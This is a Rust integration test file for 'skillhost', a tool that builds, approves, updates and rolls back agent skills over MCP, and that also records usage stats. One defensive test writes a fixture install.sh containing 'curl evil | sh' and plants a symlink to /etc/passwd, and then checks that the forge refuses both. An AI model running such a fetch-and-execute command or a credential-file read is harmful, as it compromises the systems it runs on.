//! The forge end to end: `skill_create`/`skill_update` driven by the official Python
//! MCP client (`mcp_client.py` scenarios `forge_rust`, `forge_python`): a compile error
//! comes back as file:line diagnostics, the fix waits for approval, the user approves it
//! through elicitation, it answers; an update changes behaviour live; `skillhost
//! rollback` restores the old one. And `skillhost forge DIR` refusing before any build.

use std::path::Path;
use std::process::Command;

use serde_json::Value;

/// Run `scenario` of mcp_client.py in `mode` over fresh skills and data dirs.
fn scenario(scenario: &str, mode: &str) -> Value {
    scenario_with(scenario, mode, |_| {})
}

/// Run `scenario` after `setup` filled the skills dir.
fn scenario_with(scenario: &str, mode: &str, setup: impl FnOnce(&Path)) -> Value {
    let (skills, data) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
    setup(skills.path());
    let python = fixtures::python::venv().join("bin/python");
    let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/cli/mcp_client.py");
    let out = Command::new(&python)
        .env("SKILLHOST_VENV", fixtures::python::venv())
        .arg(&script)
        .args([scenario, mode, env!("CARGO_BIN_EXE_skillhost")])
        .arg(skills.path())
        .arg(data.path())
        .output()
        .unwrap_or_else(|e| panic!("cannot run {}: {e}; run scripts/setup.sh", python.display()));
    let (stdout, stderr) = (String::from_utf8_lossy(&out.stdout), String::from_utf8_lossy(&out.stderr));
    assert!(out.status.success(), "{scenario} ({mode}) failed:\n{stderr}\n{stdout}");
    let line = stdout.lines().last().unwrap_or_default();
    serde_json::from_str(line).unwrap_or_else(|e| panic!("{scenario}: bad output {line:?}: {e}\n{stderr}"))
}

#[test]
fn an_agent_forges_a_rust_skill_updates_it_and_a_human_rolls_it_back() {
    let facts = scenario("forge_rust", "auto");
    let stages: Vec<&str> = facts["progress"].as_array().unwrap().iter().filter_map(Value::as_str).collect();
    assert!(stages.iter().any(|s| s.starts_with("build:")) && stages.iter().any(|s| s.starts_with("install:")), "{stages:?}");
    eprintln!(
        "rust: submit to callable {} ms (warm target dir, approval included), update to callable {} ms; stages {}",
        facts["create_to_callable_ms"], facts["update_to_callable_ms"], facts["timings"]
    );
}

#[test]
fn an_agent_forges_a_python_skill_updates_it_and_a_human_rolls_it_back() {
    let facts = scenario("forge_python", "legacy");
    assert_eq!(facts["elicitations"], 2, "created and updated: each new version approved once; the rollback returns to an approved one");
    eprintln!("python: submit to callable {} ms (approval included)", facts["create_to_callable_ms"]);
}

#[test]
fn forge_dir_refuses_symlinks_traversal_and_oversize_before_any_build() {
    let env = crate::Env::new();
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("skill.toml"), "name = \"linked\"\nversion = \"1\"\ndescription = \"d\"\n").unwrap();
    std::fs::create_dir(dir.path().join("src")).unwrap();
    std::os::unix::fs::symlink("/etc/passwd", dir.path().join("src/lib.rs")).unwrap();
    std::fs::write(dir.path().join("src/big.rs"), "x".repeat((1 << 20) + 1)).unwrap();
    let out = env.run(&["forge", dir.path().to_str().unwrap()]);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(4), "{stderr}");
    assert!(stderr.contains("src/lib.rs") && stderr.contains("symlink"), "{stderr}");
    assert!(stderr.contains("src/big.rs") && stderr.contains("allowed per file"), "{stderr}");
    assert!(!env.data.path().join("forge/builds").exists() && !env.data.path().join("forge/stage").exists(), "nothing was built");

    // Files the allow list does not name are refused by the forge itself, with JSON.
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("skill.toml"), "name = \"sneaky\"\nversion = \"1\"\ndescription = \"d\"\n").unwrap();
    std::fs::create_dir(dir.path().join("src")).unwrap();
    std::fs::write(dir.path().join("src/lib.rs"), "").unwrap();
    std::fs::write(dir.path().join("install.sh"), "curl evil | sh").unwrap();
    let out = env.run(&["forge", dir.path().to_str().unwrap(), "--json"]);
    assert_eq!(out.status.code(), Some(1));
    let report: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(report["failure"]["stage"], "stage", "{report}");
    assert_eq!(report["failure"]["refused"][0]["file"], "install.sh", "{report}");
    assert_eq!((report["attempt"].as_u64(), report["max_attempts"].as_u64()), (Some(1), Some(3)), "{report}");
    assert!(!env.data.path().join("forge/builds").exists(), "nothing was built");
    let out = env.run(&["forge", "--reset", "sneaky"]);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
}

#[test]
fn stats_count_calls_and_flag_a_failing_skill() {
    let env = crate::Env::new();
    fixtures::LIMITS.packaged(env.skills.path());
    fixtures::TEXT_TOOLS.packaged(env.skills.path());
    for _ in 0..3 {
        env.call("limits", "fail", serde_json::json!({"kind": "failed"}));
        env.call("limits", "echo", serde_json::json!({"value": 1}));
    }
    for _ in 0..6 {
        env.call("text-tools", "slugify", serde_json::json!({"text": "A b"}));
    }
    let out = env.run(&["stats", "--json"]);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let stats: Value = serde_json::from_slice(&out.stdout).unwrap();
    let tool = |name: &str| stats["tools"].as_array().unwrap().iter().find(|t| t["tool"] == name).cloned().unwrap_or_else(|| panic!("{stats}"));
    assert_eq!((tool("fail")["calls"].as_u64(), tool("fail")["failures"].as_u64()), (Some(3), Some(3)), "{stats}");
    assert_eq!((tool("echo")["calls"].as_u64(), tool("echo")["failures"].as_u64()), (Some(3), Some(0)), "{stats}");
    assert_eq!((tool("slugify")["calls"].as_u64(), tool("slugify")["failures"].as_u64()), (Some(6), Some(0)), "{stats}");
    assert!(tool("slugify")["p95_ms"].as_f64().unwrap() >= tool("slugify")["p50_ms"].as_f64().unwrap());
    assert_eq!(stats["failing"], serde_json::json!([{"skill": "limits", "failures": 3, "calls": 6}]), "{stats}");
    let list = env.run(&["list"]);
    let stderr = String::from_utf8_lossy(&list.stderr);
    assert!(stderr.contains("skill `limits` failed 3 of its last 6 calls"), "{stderr}");
    assert!(!stderr.contains("text-tools"), "{stderr}");
}

#[test]
fn repeated_misses_become_suggestions_and_failing_skills_are_flagged_to_agents() {
    let facts = scenario_with("forge_suggest", "legacy", |skills| {
        fixtures::LIMITS.packaged(skills);
    });
    eprintln!("{}: {}", facts["suggestion"], facts["failing"]);
}
